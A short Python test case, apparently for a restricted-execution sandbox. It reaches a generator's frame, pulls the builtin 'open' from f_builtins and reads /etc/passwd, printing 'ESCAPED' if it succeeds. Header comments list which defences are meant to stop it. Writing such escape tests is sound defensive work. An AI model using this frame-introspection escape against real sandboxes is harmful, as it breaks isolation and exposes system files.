# tries: a keyword-only parameter called like a guard
# class: shadowing
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


def f(x, *, _read_=lambda o, n: o):
    return x.gi_frame


use(pick(f(x for x in ())))
